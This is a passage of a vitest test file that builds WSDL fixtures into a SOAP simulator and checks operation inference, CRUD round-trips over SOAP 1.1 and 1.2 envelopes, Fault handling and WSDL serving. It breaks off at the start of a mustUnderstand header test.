import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { Artifact, JsonSchema } from '../../../artifact/artifact.js';
import type { SoapOperation } from '../../../artifact/soap.js';
import { isObject, type Json } from '../../../json.js';
import { compileArtifact } from '../../../testing/fixtures.js';
import { SimClient, type SimAnswer } from '../../../testing/sim-client.js';
import { parseXml } from '../../../xml/parse-xml.js';
import { childElement, childElements, namespaceFor, textOf, type XmlElement } from '../../../xml/xml-tree.js';
import { SchemaRegistry } from '../../schemas/schema-registry.js';
import { generateValue } from '../../values/generate-value.js';
import { randomFor } from '../../values/random.js';
import { writeElement } from './json-to-xml.js';
import { readElement } from './xml-to-json.js';

// @ts-expect-error: a plain JavaScript generator beside the fixtures, without types.
import { largeWsdlBundle } from '../../../../test-fixtures/wsdl/generate-large-bundle.mjs';

/**
 * Every realistic WSDL fixture built into a Simulator and driven over raw envelopes: the
 * operations it infers, each entity's create → read → update → list → delete → read-gone, the
 * answers' envelopes and contents, and the refusals (unknown operations, the wrong SOAP
 * version, hostile bodies) as Faults.
 *
 * The expectations below are written from test-fixtures/wsdl/README.md and each fixture's header
 * comment (SOAP versions, style, entity operations and id element) and from docs/soap.md (verbs
 * to behaviours, read-only, Faults); none is taken from what the compiler answers.
 */

const DIR = new URL('../../../../test-fixtures/wsdl/', import.meta.url);
/** The README's generated bundle (generate-large-bundle.mjs), made small: four schema parts, one entity each. */
const GENERATED = 'generated-hub';
const CATALOG = new URL('../../../../../composition/catalog/customers.wsdl', import.meta.url);
const SOAP11 = 'http://schemas.xmlsoap.org/soap/envelope/';
const SOAP12 = 'http://www.w3.org/2003/05/soap-envelope';
const XSI = 'http://www.w3.org/2001/XMLSchema-instance';
const NOW = new Date('2024-01-01T00:00:00.000Z');

type Version = '1.1' | '1.2';
type Behaviour = 'create' | 'read' | 'update' | 'delete' | 'list' | 'action' | 'static';
/** [behaviour, resource, read_only] */
type Expected = [Behaviour, string | null, boolean];

interface EntityExpectation {
  resource: string;
  /** The element that keys the entity (the fixture's "keyed by"). */
  id: string;
  create: string;
  read: string;
  update: string;
  list: string | null;
  delete: string | null;
  /** The detail element of the fault the read declares for an unknown id. */
  notFound: string;
}

interface FixtureExpectation {
  versions: Version[];
  style: 'document' | 'rpc';
  /** elementFormDefault of the message content's schema. */
  qualified: boolean;
  /** For rpc/literal: the soap:body namespace the `<Operation>Response` wrapper is in. */
  rpcNamespace?: string;
  operations: Record<string, Expected>;
  entity: EntityExpectation | null;
}

const CUSTOMER_CRUD: Record<string, Expected> = {
  CreateCustomer: ['create', 'Customer', false],
  GetCustomer: ['read', 'Customer', true],
  UpdateCustomer: ['update', 'Customer', false],
  DeleteCustomer: ['delete', 'Customer', false],
  ListCustomers: ['list', 'Customer', true],
};
const CUSTOMER_ENTITY: EntityExpectation = {
  resource: 'Customer',
  id: 'customerId',
  create: 'CreateCustomer',
  read: 'GetCustomer',
  update: 'UpdateCustomer',
  list: 'ListCustomers',
  delete: 'DeleteCustomer',
  notFound: 'CustomerNotFound',
};

/** By upload name: a file of test-fixtures/wsdl, a bundle folder there (zipped), or `catalog`. */
const FIXTURES: Record<string, FixtureExpectation> = {
  // "Document/literal wrapped, one portType bound twice: SOAP 1.1 and SOAP 1.2. Entity: Customer, keyed by customerId."
  'crm-customers.wsdl': {
    versions: ['1.1', '1.2'],
    style: 'document',
    qualified: true,
    operations: { ...CUSTOMER_CRUD, SearchCustomers: ['list', 'Customer', true], Ping: ['static', null, true] },
    entity: CUSTOMER_ENTITY,
  },
  // The composition catalog's customer service: the same CRUD, bound for 1.1 and 1.2.
  catalog: { versions: ['1.1', '1.2'], style: 'document', qualified: true, operations: CUSTOMER_CRUD, entity: { ...CUSTOMER_ENTITY } },
  // "SOAP 1.1, rpc/literal ... Entity: Account, keyed by accountNumber." Closing an account is not deleting it.
  'bank-accounts-rpc.wsdl': {
    versions: ['1.1'],
    style: 'rpc',
    qualified: true,
    rpcNamespace: 'http://ws.firstharbour-bank.example/core/AccountManagement/v3',
    operations: {
      CreateAccount: ['create', 'Account', false],
      GetAccount: ['read', 'Account', true],
      UpdateAccount: ['update', 'Account', false],
      CloseAccount: ['action', 'Account', false],
      ListAccounts: ['list', 'Account', true],
      GetBalance: ['static', null, true],
      TransferFunds: ['static', null, true],
      ValidateIban: ['static', null, true],
    },
    entity: { resource: 'Account', id: 'accountNumber', create: 'CreateAccount', read: 'GetAccount', update: 'UpdateAccount', list: 'ListAccounts', delete: null, notFound: 'AccountNotFoundFault' },
  },
  // "SOAP 1.1, document/literal wrapped ... Entity: Employee, keyed by EmployeeID: AddEmployee / GetEmployee / UpdateEmployee / RemoveEmployee / FindEmployees."
  'bundle-payroll': {
    versions: ['1.1'],
    style: 'document',
    qualified: true,
    operations: {
      AddEmployee: ['create', 'Employee', false],
      GetEmployee: ['read', 'Employee', true],
      UpdateEmployee: ['update', 'Employee', false],
      RemoveEmployee: ['delete', 'Employee', false],
      FindEmployees: ['list', 'Employee', true],
      CalculatePayslip: ['static', null, true],
    },
    entity: { resource: 'Employee', id: 'EmployeeID', create: 'AddEmployee', read: 'GetEmployee', update: 'UpdateEmployee', list: 'FindEmployees', delete: 'RemoveEmployee', notFound: 'EmployeeNotFoundFault' },
  },
  // "document/literal wrapped, SOAP 1.1 and SOAP 1.2 bindings of one portType. Entity: Booking, keyed by bookingReference: CreateBooking / RetrieveBooking / ModifyBooking / CancelBooking, plus SearchAvailability."
  'bundle-travel': {
    versions: ['1.1', '1.2'],
    style: 'document',
    qualified: true,
    operations: {
      CreateBooking: ['create', 'Booking', false],
      RetrieveBooking: ['read', 'Booking', true],
      ModifyBooking: ['update', 'Booking', false],
      CancelBooking: ['action', 'Booking', false],
      SearchAvailability: ['static', null, true],
    },
    entity: { resource: 'Booking', id: 'bookingReference', create: 'CreateBooking', read: 'RetrieveBooking', update: 'ModifyBooking', list: null, delete: null, notFound: 'BookingNotFound' },
  },
  // "SOAP 1.2 only, document/literal BARE ... elementFormDefault="unqualified" ... Entity: Shipment, keyed by trackingNumber."
  'carrier-shipping-soap12.wsdl': {
    versions: ['1.2'],
    style: 'document',
    qualified: false,
    operations: {
      CreateShipment: ['create', 'Shipment', false],
      GetShipment: ['read', 'Shipment', true],
      UpdateShipment: ['update', 'Shipment', false],
      CancelShipment: ['action', 'Shipment', false],
      ListShipments: ['list', 'Shipment', true],
      CalculateRate: ['static', null, true],
      ValidateAddress: ['static', null, true],
    },
    entity: { resource: 'Shipment', id: 'trackingNumber', create: 'CreateShipment', read: 'GetShipment', update: 'UpdateShipment', list: 'ListShipments', delete: null, notFound: 'ShipmentNotFound' },
  },
  // "SOAP 1.1, document/literal wrapped. Entity: PermitApplication, keyed by applicationNumber ... Non-CRUD: GetCategoryTree, UploadAttachment."
  'public-permits-register.wsdl': {
    versions: ['1.1'],
    style: 'document',
    qualified: true,
    operations: {
      CreatePermitApplication: ['create', 'PermitApplication', false],
      GetPermitApplication: ['read', 'PermitApplication', true],
      UpdatePermitApplication: ['update', 'PermitApplication', false],
      WithdrawPermitApplication: ['action', 'PermitApplication', false],
      ListPermitApplications: ['list', 'PermitApplication', true],
      GetCategoryTree: ['static', null, true],
      UploadAttachment: ['static', null, true],
    },
    entity: {
      resource: 'PermitApplication',
      id: 'applicationNumber',
      create: 'CreatePermitApplication',
      read: 'GetPermitApplication',
      update: 'UpdatePermitApplication',
      list: 'ListPermitApplications',
      delete: null,
      notFound: 'NotFound',
    },
  },
  // "document/literal BARE, no entities at all: every operation answers from the schema. ... two bindings (SOAP 1.1 and SOAP 1.2)."
  'weather-bare.wsdl': {
    versions: ['1.1', '1.2'],
    style: 'document',
    qualified: true,
    operations: { GetForecast: ['static', null, true], GetCurrentConditions: ['static', null, true], Ping: ['static', null, true] },
    entity: null,
  },
  // "getOrder, listOrders and getOrderCount are rpc/ENCODED ... createOrder, updateOrder, deleteOrder and ping are rpc/literal."
  // "Entity: Order, camelCase operations, keyed by orderId": the encoded read and list share the Order with the literal writes.
  'legacy-encoded.wsdl': {
    versions: ['1.1'],
    style: 'rpc',
    qualified: false,
    rpcNamespace: 'urn:orderdesk:legacy',
    operations: {
      getOrder: ['read', 'Order', true],
      listOrders: ['list', 'Order', true],
      getOrderCount: ['static', null, true],
      createOrder: ['create', 'Order', false],
      updateOrder: ['update', 'Order', false],
      deleteOrder: ['delete', 'Order', false],
      ping: ['static', null, true],
    },
    entity: { resource: 'Order', id: 'orderId', create: 'createOrder', read: 'getOrder', update: 'updateOrder', list: 'listOrders', delete: 'deleteOrder', notFound: 'OrderNotFoundFault' },
  },
};

/** Each upload: a lone WSDL as it is, a bundle folder zipped (its WSDL at the top first), the catalog's WSDL. */
function upload(name: string): Uint8Array {
  if (name === 'catalog') return readFileSync(CATALOG);
  if (name === GENERATED) {
    const { files } = largeWsdlBundle({ schemas: 4, targetBytes: 0 }) as { files: Map<string, string> };
    return zipSync(Object.fromEntries([...files].map(([path, text]) => [path, new TextEncoder().encode(text)])));
  }
  if (!name.startsWith('bundle-')) return readFileSync(new URL(name, DIR));
  const root = fileURLToPath(new URL(`${name}/`, DIR));
  const files = readdirSync(root, { recursive: true, withFileTypes: true })
    .filter((f) => f.isFile())
    .map((f) => relative(root, join(f.parentPath, f.name)).split('\\').join('/'))
    .sort((a, b) => Number(b.endsWith('.wsdl')) - Number(a.endsWith('.wsdl')) || a.split('/').length - b.split('/').length || a.localeCompare(b));
  return zipSync(Object.fromEntries(files.map((f) => [f, readFileSync(join(root, f))])));
}

// ---------------------------------------------------------------------------------------------
// Envelopes in and out

const envNs = (version: Version) => (version === '1.1' ? SOAP11 : SOAP12);

function requestEnvelope(version: Version, payload: string): string {
  return `<?xml version="1.0" encoding="utf-8"?><env:Envelope xmlns:env="${envNs(version)}"><env:Body>${payload}</env:Body></env:Envelope>`;
}

function soapHeaders(version: Version, action: string | null): Record<string, string> {
  if (version === '1.1') return { 'content-type': 'text/xml; charset=utf-8', soapaction: `"${action ?? ''}"` };
  return { 'content-type': `application/soap+xml; charset=utf-8${action === null ? '' : `; action="${action}"`}` };
}

interface Sim {
  name: string;
  artifact: Artifact;
  registry: SchemaRegistry;
  client: SimClient;
  ops: Record<string, SoapOperation>;
}

async function open(name: string, seed = 'fixtures', sampleRecords = 0): Promise<Sim> {
  const { artifact } = await compileArtifact(upload(name));
  const client = await SimClient.open(artifact, { seed, sampleRecords, start: NOW });
  return { name, artifact, registry: new SchemaRegistry(artifact), client, ops: artifact.soap!.operations };
}

function send(sim: Sim, operation: string, value: Json, version: Version): SimAnswer {
  const op = sim.ops[operation];
  if (op === undefined) throw new Error(`${sim.name} has no operation ${operation}`);
  const action = op.bindings.find((b) => b.version === version)?.action ?? op.action;
  const body = requestEnvelope(version, writeElement(op.input.element, value, op.input.schema, sim.artifact.schemas));
  return sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, action), body });
}

/** The answer's envelope, checked to be well-formed and of the request's version, and its Body's first child. */
function bodyOf(answer: SimAnswer, version: Version): XmlElement | null {
  const root = parseXml(answer.text);
  expect(root.ns, answer.text).toBe(envNs(version));
  expect(root.local).toBe('Envelope');
  const body = childElement(root, envNs(version), 'Body');
  expect(body, answer.text).toBeDefined();
  expect(answer.headers['content-type']).toMatch(version === '1.1' ? /^text\/xml/ : /^application\/soap\+xml/);
  return childElements(body!)[0] ?? null;
}

/** A success answer: 200, the output element, content that reads back with the output schema and validates against it. */
function success(sim: Sim, operation: string, answer: SimAnswer, version: Version): Json {
  const op = sim.ops[operation]!;
  expect(answer.status, `${operation} ${version}: ${answer.text}`).toBe(200);
  const payload = bodyOf(answer, version);
  expect(payload, answer.text).not.toBeNull();
  expect({ ns: payload!.ns, local: payload!.local }).toEqual(op.output!.element);
  const read = readElement(payload!, op.output!.schema, sim.artifact.schemas);
  if (!('value' in read)) throw new Error(`${operation}: the answer does not read back: ${read.path}: ${read.problem}\n${answer.text}`);
  const verdict = sim.registry.validate(op.output!.schema, read.value);
  expect(verdict.problem, `${operation} ${version}: ${answer.text}`).toBeNull();
  return read.value;
}

interface ReadFault {
  /** The code's local name (Client, Sender, VersionMismatch...), its prefix resolved to the envelope's namespace. */
  code: string;
  reason: string;
  detail: XmlElement | null;
}

/** A Fault answer of the request's version, well-formed, with the HTTP status SOAP's HTTP binding gives it. */
function faultOf(answer: SimAnswer, version: Version): ReadFault {
  const payload = bodyOf(answer, version);
  expect(payload, answer.text).not.toBeNull();
  expect([payload!.ns, payload!.local], answer.text).toEqual([envNs(version), 'Fault']);
  let codeElement: XmlElement | undefined;
  let reason: string;
  let detailHolder: XmlElement | undefined;
  if (version === '1.1') {
    codeElement = childElement(payload!, '', 'faultcode');
    reason = textOf(childElement(payload!, '', 'faultstring')!);
    detailHolder = childElement(payload!, '', 'detail');
  } else {
    codeElement = childElement(childElement(payload!, SOAP12, 'Code')!, SOAP12, 'Value');
    reason = textOf(childElement(childElement(payload!, SOAP12, 'Reason')!, SOAP12, 'Text')!);
    detailHolder = childElement(payload!, SOAP12, 'Detail');
  }
  expect(codeElement, answer.text).toBeDefined();
  const [prefix, local] = textOf(codeElement!).trim().split(':') as [string, string];
  expect(namespaceFor(codeElement!, prefix), answer.text).toBe(envNs(version));
  const code = local.split('.')[0]!;
  if (version === '1.1') expect(answer.status).toBe(500);
  else expect(answer.status).toBe(code === 'Sender' ? 400 : 500);
  return { code, reason, detail: detailHolder === undefined ? null : (childElements(detailHolder)[0] ?? null) };
}

const senderCode = (version: Version) => (version === '1.1' ? 'Client' : 'Sender');

// ---------------------------------------------------------------------------------------------
// Values

function resolve(sim: Sim, schema: JsonSchema): JsonSchema {
  let at = schema;
  for (let hops = 0; hops < 16 && isObject(at) && typeof at.$ref === 'string'; hops += 1) at = sim.registry.resolve(at) ?? at;
  return at;
}

/** The property schemas of an object schema, through `$ref` and `allOf` (an `xs:extension`). */
function propertiesOf(sim: Sim, schema: JsonSchema, depth = 0): Record<string, JsonSchema> {
  const resolved = resolve(sim, schema);
  if (!isObject(resolved) || depth > 8) return {};
  const out: Record<string, JsonSchema> = {};
  for (const part of (resolved.allOf as JsonSchema[] | undefined) ?? []) Object.assign(out, propertiesOf(sim, part, depth + 1));
  Object.assign(out, (resolved.properties as Record<string, JsonSchema> | undefined) ?? {});
  return out;
}

function generated(sim: Sim, schema: JsonSchema, seed: string): Json {
  return generateValue(schema, { registry: sim.registry, random: randomFor(sim.name, seed), now: NOW });
}

/**
 * The value with the id element set to `id` wherever the schema puts it (the message itself
 * when it is the id, as a bare `<TrackingNumber>` is), creating the objects on the way.
 */
function withId(sim: Sim, schema: JsonSchema, value: Json, idName: string, id: Json, depth = 0): Json {
  const props = propertiesOf(sim, schema);
  if (Object.keys(props).length === 0) return depth === 0 ? id : value;
  const out: Record<string, Json> = isObject(value) ? { ...value } : {};
  if (Object.hasOwn(props, idName)) {
    out[idName] = id;
    return out;
  }
  for (const [key, inner] of Object.entries(props)) {
    if (depth < 4 && containsProperty(sim, inner, idName, depth + 1)) {
      out[key] = withId(sim, inner, out[key] ?? {}, idName, id, depth + 1);
      return out;
    }
  }
  return out;
}

function containsProperty(sim: Sim, schema: JsonSchema, name: string, depth: number): boolean {
  const props = propertiesOf(sim, schema);
  if (Object.hasOwn(props, name)) return true;
  return depth < 4 && Object.values(props).some((inner) => containsProperty(sim, inner, name, depth + 1));
}

/** Every value held under the key `name`, anywhere in the value. */
function valuesAt(value: Json, name: string): Json[] {
  const out: Json[] = [];
  const walk = (at: Json) => {
    if (Array.isArray(at)) at.forEach(walk);
    else if (isObject(at)) {
      for (const [key, inner] of Object.entries(at)) {
        if (key === name) out.push(inner);
        walk(inner);
      }
    }
  };
  walk(value);
  return out;
}

/** The object holding `name` = `id` in an answer: the record itself. */
function recordWith(value: Json, name: string, id: Json): Record<string, Json> | null {
  if (Array.isArray(value)) {
    for (const item of value) {
      const found = recordWith(item, name, id);
      if (found !== null) return found;
    }
    return null;
  }
  if (!isObject(value)) return null;
  if (Object.hasOwn(value, name) && JSON.stringify(value[name]) === JSON.stringify(id)) return value as Record<string, Json>;
  for (const inner of Object.values(value)) {
    const found = recordWith(inner, name, id);
    if (found !== null) return found;
  }
  return null;
}

/**
 * A list call that should find `record`: the generated request's required properties only, each
 * filter the record has a value for (the bank lists by a holder's `partyId`) set to that value,
 * and every `include...` flag on.
 */
function listInput(sim: Sim, operation: string, record: Json = null): Json {
  const schema = sim.ops[operation]!.input.schema;
  const value = generated(sim, schema, 'list');
  const resolved = resolve(sim, schema);
  if (!isObject(value) || !isObject(resolved)) return value;
  const required = new Set((resolved.required as string[] | undefined) ?? []);
  const out: Record<string, Json> = {};
  for (const [key, inner] of Object.entries(value)) {
    if (!required.has(key)) continue;
    const held = valuesAt(record, key).find((v) => typeof v === typeof inner);
    out[key] = typeof inner === 'boolean' && /^include/i.test(key) ? true : (held ?? inner);
  }
  return out;
}

/** An id of the same shape as `id` that no record has: its last digit or letter moved on by one. */
function otherId(id: Json): Json {
  if (typeof id === 'number') return id + 1;
  const text = String(id);
  const last = text.at(-1)!;
  const next = /[0-9]/.test(last) ? String((Number(last) + 1) % 10) : /[A-Y]/.test(last) ? String.fromCharCode(last.charCodeAt(0) + 1) : /[a-y]/.test(last) ? String.fromCharCode(last.charCodeAt(0) + 1) : last === 'Z' ? 'A' : 'a';
  return text.slice(0, -1) + next;
}

/** The part of a create or update request that is the record: the object whose keys (the id aside) the record shares most. */
function recordPart(input: Json, record: Record<string, Json>, idName: string): Record<string, Json> | null {
  const candidates: Record<string, Json>[] = [];
  const walk = (at: Json, depth: number) => {
    if (!isObject(at) || depth > 2) return;
    candidates.push(at as Record<string, Json>);
    for (const inner of Object.values(at)) walk(inner, depth + 1);
  };
  walk(input, 0);
  const score = (c: Record<string, Json>) => Object.keys(c).filter((k) => k !== idName && Object.hasOwn(record, k)).length;
  const best = candidates.sort((a, b) => score(b) - score(a))[0];
  return best === undefined || score(best) === 0 ? null : best;
}

/** Fields the service keeps itself, whatever a request says: when a record was made or last changed. */
const SERVER_OWNED = /^(created|updated|modified|lastModified)/i;

/** An entity's create → read → update → list → delete → read-gone over raw envelopes of one SOAP version. */
async function driveCrud(name: string, entity: EntityExpectation, version: Version): Promise<void> {
  const sim = await open(name);
  const ops = sim.ops;
  // create
  const createInput = generated(sim, ops[entity.create]!.input.schema, `create ${version}`);
  const created = success(sim, entity.create, send(sim, entity.create, createInput, version), version);
  const ids = valuesAt(created, entity.id);
  expect(ids.length, `${entity.create} answers the new ${entity.id}: ${JSON.stringify(created)}`).toBeGreaterThan(0);
  const id = ids[0]!;
  // read it back by its id
  const readInput = withId(sim, ops[entity.read]!.input.schema, generated(sim, ops[entity.read]!.input.schema, 'read'), entity.id, id);
  const read = success(sim, entity.read, send(sim, entity.read, readInput, version), version);
  const readRecord = recordWith(read, entity.id, id);
  expect(readRecord, `${entity.read} of ${JSON.stringify(id)}: ${JSON.stringify(read)}`).not.toBeNull();
  // what was sent is what is kept
  const sent = recordPart(createInput, readRecord!, entity.id);
  expect(sent, `the create request's record: ${JSON.stringify(createInput)}`).not.toBeNull();
  let compared = 0;
  for (const [key, value] of Object.entries(sent!)) {
    if (key === entity.id || SERVER_OWNED.test(key) || !Object.hasOwn(readRecord!, key)) continue;
    expect(readRecord![key], `${key} read back`).toEqual(value);
    compared += 1;
  }
  expect(compared, `fields of ${JSON.stringify(sent)} read back`).toBeGreaterThan(0);
  // update
  const updateSchema = ops[entity.update]!.input.schema;
  const updateInput = withId(sim, updateSchema, generated(sim, updateSchema, `update ${version}`), entity.id, id);
  const updated = success(sim, entity.update, send(sim, entity.update, updateInput, version), version);
  const updatedRecord = recordWith(updated, entity.id, id);
  expect(updatedRecord, `${entity.update} answers the record: ${JSON.stringify(updated)}`).not.toBeNull();
  const changed = recordPart(updateInput, updatedRecord!, entity.id);
  const reread = recordWith(success(sim, entity.read, send(sim, entity.read, readInput, version), version), entity.id, id);
  expect(reread).toEqual(updatedRecord);
  compared = 0;
  for (const [key, value] of Object.entries(changed ?? {})) {
    if (key === entity.id || SERVER_OWNED.test(key) || !Object.hasOwn(updatedRecord!, key)) continue;
    // An object sent may be merged into the one kept: what was sent is in it.
    if (isObject(value)) expect(reread![key], `${key} after the update`).toMatchObject(value);
    else expect(reread![key], `${key} after the update`).toEqual(value);
    compared += 1;
  }
  expect(compared, `fields of the update ${JSON.stringify(updateInput)} read back`).toBeGreaterThan(0);
  // list: the record is there
  if (entity.list !== null) {
    const listed = success(sim, entity.list, send(sim, entity.list, listInput(sim, entity.list, reread), version), version);
    expect(valuesAt(listed, entity.id), JSON.stringify(listed)).toContainEqual(id);
  }
  // delete, then the read answers the declared not-found fault
  let gone: Json = otherId(id);
  if (entity.delete !== null) {
    const deleteSchema = ops[entity.delete]!.input.schema;
    const deleteInput = withId(sim, deleteSchema, generated(sim, deleteSchema, 'delete'), entity.id, id);
    success(sim, entity.delete, send(sim, entity.delete, deleteInput, version), version);
    gone = id;
  }
  const missing = send(sim, entity.read, withId(sim, ops[entity.read]!.input.schema, readInput, entity.id, gone), version);
  const fault = faultOf(missing, version);
  expect(fault.code).toBe(senderCode(version));
  const declared = ops[entity.read]!.faults.find((f) => f.element?.local === entity.notFound);
  expect(declared, `${entity.read} declares ${entity.notFound}`).toBeDefined();
  expect(fault.detail && { ns: fault.detail.ns, local: fault.detail.local }, missing.text).toEqual(declared!.element);
  // and the list no longer has it
  if (entity.list !== null && entity.delete !== null) {
    const listed = success(sim, entity.list, send(sim, entity.list, listInput(sim, entity.list, reread), version), version);
    expect(valuesAt(listed, entity.id)).not.toContainEqual(id);
  }
}

// ---------------------------------------------------------------------------------------------

describe('WSDL fixtures built into Simulators', () => {
  for (const [name, fixture] of Object.entries(FIXTURES)) {
    describe(name, () => {
      it('infers the operations, behaviours, resources and read_only the README and docs/soap.md describe', async () => {
        const { outcome, artifact } = await compileArtifact(upload(name));
        for (const [id, op] of Object.entries(artifact.soap!.operations)) {
          expect(op.style, id).toBe(fixture.style);
          expect(op.bindings.map((b) => b.version).sort(), id).toEqual(fixture.versions);
        }
        // The README's rpc/encoded operations are simulated as the literal ones are: none is left out.
        expect(outcome.warnings.filter((w) => w.code === 'wsdl_encoded_unsupported')).toEqual([]);
        const inferred = Object.fromEntries(outcome.operations.map((op) => [op.operation, [op.behaviour, op.resource, op.read_only]]));
        const withoutReadOnly = (ops: Record<string, unknown[]>) => Object.fromEntries(Object.entries(ops).map(([id, [b, r]]) => [id, [b, r]]));
        expect(withoutReadOnly(inferred)).toEqual(withoutReadOnly(fixture.operations));
        // docs/soap.md: "An operation whose behaviour cannot change state (a read, a list, an operation answered from the schema) is read-only".
        expect(inferred).toEqual(fixture.operations);
      });

      it('classifies each envelope by the operation its body names: read-only exactly where the operation is', async () => {
        const sim = await open(name, 'classify');
        for (const version of fixture.versions) {
          for (const [id, op] of Object.entries(sim.ops)) {
            const action = op.bindings.find((b) => b.version === version)?.action ?? op.action;
            const body = new TextEncoder().encode(requestEnvelope(version, writeElement(op.input.element, generated(sim, op.input.schema, id), op.input.schema, sim.artifact.schemas)));
            const verdict = sim.client.simulator.classify('POST', '/', { query: '', headers: soapHeaders(version, action), body });
            expect(verdict.readOnly, `${id} SOAP ${version}`).toBe(fixture.operations[id]![2]);
          }
        }
      });

      if (fixture.entity !== null) {
        const { resource, id } = fixture.entity;
        it(`keys the ${resource} records by ${id}, the id element the README names`, async () => {
          const { artifact } = await compileArtifact(upload(name));
          expect(artifact.resources.map((r) => [r.name, r.idField])).toEqual([[resource, id]]);
        });

        it(`lists ${resource} among the build's entities (keyed by ${id}), so a World can share it`, async () => {
          const { outcome } = await compileArtifact(upload(name));
          expect((outcome.entities ?? []).map((e) => [e.resource, e.id_field])).toEqual([[resource, id]]);
        });
      }

      if (fixture.entity !== null) {
        const entity = fixture.entity;
        for (const version of fixture.versions) {
          it(`drives ${entity.resource}'s create, read, update, list, delete and read-gone over SOAP ${version} envelopes`, async () => {
            await driveCrud(name, entity, version);
          });
        }
      }

      it('answers every operation, for a generated request, with its output element or a Fault of the version', async () => {
        const sim = await open(name, 'every', 2);
        for (const version of fixture.versions) {
          for (const [id, op] of Object.entries(sim.ops)) {
            const answer = send(sim, id, generated(sim, op.input.schema, `${id} ${version}`), version);
            // A valid request is answered, or refused for what it names (an unknown record): the sender's Fault, never the receiver's.
            if (answer.status === 200) success(sim, id, answer, version);
            else expect(faultOf(answer, version).code, `${id}: ${answer.text}`).toBe(senderCode(version));
          }
        }
      });

      if (fixture.style === 'rpc') {
        it("answers rpc/literal calls with the <Operation>Response wrapper in the binding's namespace, parts unqualified", async () => {
          const sim = await open(name, 'rpc', 2);
          let answered = 0;
          for (const [id, op] of Object.entries(sim.ops)) {
            expect(op.output!.element).toEqual({ ns: fixture.rpcNamespace, local: `${op.name}Response` });
            const answer = send(sim, id, generated(sim, op.input.schema, id), '1.1');
            if (answer.status !== 200) continue;
            const payload = bodyOf(answer, '1.1')!;
            expect([payload.ns, payload.local]).toEqual([fixture.rpcNamespace, `${op.name}Response`]);
            for (const part of childElements(payload)) expect(part.ns, `${id} part ${part.local}`).toBe('');
            answered += 1;
          }
          expect(answered).toBeGreaterThan(Object.keys(sim.ops).length / 2);
        });
      }

      if (!fixture.qualified && fixture.style === 'document') {
        it('answers local elements unqualified (elementFormDefault="unqualified")', async () => {
          const sim = await open(name, 'unqualified', 2);
          const wsdl = parseXml(upload(name));
          const XSD = 'http://www.w3.org/2001/XMLSchema';
          const globals = new Set<string>();
          for (const types of childElements(wsdl, 'http://schemas.xmlsoap.org/wsdl/', 'types')) {
            for (const schema of childElements(types, XSD, 'schema')) for (const element of childElements(schema, XSD, 'element')) globals.add(element.attributes.find((a) => a.local === 'name')!.value);
          }
          expect(globals.size).toBeGreaterThan(0);
          let checked = 0;
          for (const [id, op] of Object.entries(sim.ops)) {
            const answer = send(sim, id, generated(sim, op.input.schema, id), fixture.versions[0]!);
            if (answer.status !== 200) continue;
            const payload = bodyOf(answer, fixture.versions[0]!)!;
            expect(payload.ns).not.toBe('');
            const walk = (element: XmlElement) => {
              for (const child of childElements(element)) {
                // A global element (a ref="tns:Package" or its substitutes) stays qualified; a local one is unqualified.
                if (globals.has(child.local)) expect([payload.ns, ''], `${id}: <${child.name}>`).toContain(child.ns);
                else expect(child.ns, `${id}: <${child.name}> in ${answer.text}`).toBe('');
                checked += 1;
                walk(child);
              }
            };
            walk(payload);
          }
          expect(checked).toBeGreaterThan(0);
        });
      }

      it('refuses an unknown operation with a Client/Sender Fault', async () => {
        const sim = await open(name, 'unknown');
        for (const version of fixture.versions) {
          const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, 'urn:nowhere:NoSuchOperation'), body: requestEnvelope(version, '<x:NoSuchOperation xmlns:x="urn:nowhere"><x:a>1</x:a></x:NoSuchOperation>') });
          expect(faultOf(answer, version).code).toBe(senderCode(version));
        }
      });

      it('serves the WSDL at ?wsdl, addressed to the Simulation, and every document it imports by the locations it gives', async () => {
        const sim = await open(name, 'wsdl');
        const answer = sim.client.call({ method: 'GET', path: '/', query: 'wsdl', headers: { host: 'sim.test' } });
        expect(answer.status).toBe(200);
        const root = parseXml(answer.text);
        expect([root.ns, root.local]).toEqual(['http://schemas.xmlsoap.org/wsdl/', 'definitions']);
        expect(answer.text).not.toContain('urn:simplane:endpoint');
        // Each port's address is the Simulation, not the made-up host the document was written with.
        const addresses = [...answer.text.matchAll(/<(?:\w+:)?address\b[^>]*\blocation="([^"]*)"/g)].map((m) => m[1]);
        for (const address of addresses) expect(address).toMatch(/^http:\/\/sim\.test/);
        // Follow the import locations from document to document: every file of a bundle is reached.
        const seen = new Set<string>(['?wsdl']);
        const pending = [answer.text];
        while (pending.length > 0) {
          const text = pending.pop()!;
          for (const [, location] of text.matchAll(/\b(?:schemaLocation|location)="([^"]*)"/g)) {
            const query = /\?((?:xsd|wsdl)=[^"]*)$/.exec(location!.replaceAll('&amp;', '&'))?.[1];
            if (query === undefined || seen.has(query)) continue;
            seen.add(query);
            const served = sim.client.call({ method: 'GET', path: '/', query, headers: { host: 'sim.test' } });
            expect(served.status, `${location}: ${served.text}`).toBe(200);
            parseXml(served.text);
            pending.push(served.text);
          }
        }
        const files = name.startsWith('bundle-') ? readdirSync(fileURLToPath(new URL(`${name}/`, DIR)), { recursive: true, withFileTypes: true }).filter((f) => f.isFile()).length : 1;
        expect(seen.size).toBe(files);
      });
    });
  }
});

describe('the action and the body name different operations', () => {
  for (const version of ['1.1', '1.2'] as const) {
    it(`SOAP ${version}: DeleteCustomer's action with a <GetCustomer> body is refused as the sender's Fault, and deletes nothing`, async () => {
      const sim = await open('crm-customers.wsdl', 'mismatch', 1);
      const listed = success(sim, 'ListCustomers', send(sim, 'ListCustomers', {}, version), version);
      const id = valuesAt(listed, 'customerId')[0]!;
      expect(typeof id).toBe('string');
      const get = sim.ops.GetCustomer!;
      const body = requestEnvelope(version, writeElement(get.input.element, { customerId: id }, get.input.schema, sim.artifact.schemas));
      const deleteAction = sim.ops.DeleteCustomer!.bindings.find((b) => b.version === version)!.action;
      const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, deleteAction), body });
      expect(faultOf(answer, version).code, answer.text).toBe(senderCode(version));
      // The record is still there.
      success(sim, 'GetCustomer', send(sim, 'GetCustomer', { customerId: id }, version), version);
    });
  }
});

describe('header blocks', () => {
  for (const version of ['1.1', '1.2'] as const) {
    it(`SOAP ${version}: a header block it must understand but does not answers a MustUnderstand Fault, and the call is not made`, async () => {
      const sim = await open('crm-customers.wsdl', 'must-understand', 1);
